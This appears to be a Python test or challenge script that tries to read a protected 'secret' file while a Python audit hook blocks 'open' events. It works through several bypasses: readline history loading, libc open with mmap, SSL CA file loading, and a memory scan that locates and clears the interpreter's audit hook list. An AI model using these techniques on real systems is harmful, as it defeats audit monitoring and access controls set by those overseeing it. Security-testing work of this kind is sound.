"""Read a file by ways that raise no audit event for opening, and take the audit hooks away.

canary: secret
control: through
"""
import ctypes
import mmap
import os
import sys

secret = TARGETS["secret"]
events = []


def forbid(event: str, arguments: object) -> None:
    if event == "open":
        events.append(event)
        raise PermissionError("audited")


sys.addaudithook(forbid)


def by_history() -> str:
    import readline

    readline.read_history_file(secret)
    return readline.get_history_item(1)


def by_the_c_library() -> bytes:
    libc = ctypes.CDLL(None)
    descriptor = libc.open(secret.encode(), 0)
    return mmap.mmap(descriptor, 0, prot=mmap.PROT_READ)[:]


def by_certificates() -> object:
    import ssl

    return ssl.create_default_context(cafile=secret)


def after_clearing() -> str:
    # The interpreter's own structure leads to the list of its hooks. A pipe tells which addresses can be read.
    api = ctypes.pythonapi.PyInterpreterState_Get
    api.restype = ctypes.c_void_p
    out, into = os.pipe()
    write = ctypes.CDLL(None).write
    for place in range(api(), api() + 200_000, 8):
        if write(into, ctypes.c_void_p(place), 8) != 8:
            break
        address = int.from_bytes(os.read(out, 8), "little")
        if address < 1 << 16 or address & 15 or write(into, ctypes.c_void_p(address + 8), 8) != 8:
            continue
        if int.from_bytes(os.read(out, 8), "little") == id(list):
            found = ctypes.cast(address, ctypes.py_object).value
            if any(item is forbid for item in found):
                found.clear()
                return open(secret).read()
    return "not found"


for way in (by_history, by_the_c_library, by_certificates, after_clearing):
    try:
        print(way(), len(events))
    except Exception as error:
        print(repr(error))
